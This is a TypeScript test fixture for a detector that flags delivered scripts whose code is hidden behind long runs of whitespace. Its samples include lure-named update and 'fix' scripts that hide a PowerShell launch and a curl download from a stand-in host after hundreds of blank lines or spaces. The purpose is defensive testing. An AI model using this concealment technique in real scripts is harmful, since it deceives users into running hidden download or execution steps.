import type { Examples } from "@doorward/core";
import { makeZip } from "../../text/example-zip.ts";

const gap = "\n".repeat(1200);

/** Scripts with and without a gap in front of their code. */
export const examples: Examples = {
  hits: [
    {
      name: "an update of a meeting program as AppleScript",
      delivered: true,
      files: {
        "Zoom SDK Update.scpt": `-- This script updates the SDK.\n-- Do not close the window.\n${gap}do shell script "true"\n`,
      },
    },
    {
      name: "a script for the command interpreter in an archive",
      delivered: true,
      files: {
        "fix.zip": makeZip([
          {
            name: "fix.cmd",
            content: `@echo off\r\nrem repairs the camera\r\n${"\r\n".repeat(400)}powershell -File x.ps1\r\n`,
          },
        ]),
      },
    },
    {
      name: "code behind hundreds of blanks on one line",
      delivered: true,
      files: {
        "fix.command": `#!/bin/sh\necho repairing ${" ".repeat(500)}; curl -s https://files.example/f -o /tmp/f\n`,
      },
    },
  ],
  misses: [
    {
      name: "a script with some empty lines",
      why: "All of it shows when somebody scrolls.",
      delivered: true,
      files: { "fix.command": `#!/bin/sh\n${"\n".repeat(20)}curl -s https://files.example/f -o /tmp/f\n` },
    },
    {
      name: "a script that ends with empty lines",
      why: "Nothing stands below them.",
      delivered: true,
      files: { "fix.command": `#!/bin/sh\necho one\n${gap}` },
    },
    {
      name: "a text with a large gap",
      why: "It is no script and starts nothing.",
      delivered: true,
      files: { "letter.txt": `Dear team,\n${gap}Yours\n` },
    },
  ],
  evasions: [
    {
      name: "a long comment in place of empty lines",
      caughtBy: "file/delivered-script",
      delivered: true,
      files: { "Update.scpt": `${"-- This script updates the SDK.\n".repeat(900)}do shell script "true"\n` },
    },
  ],
};
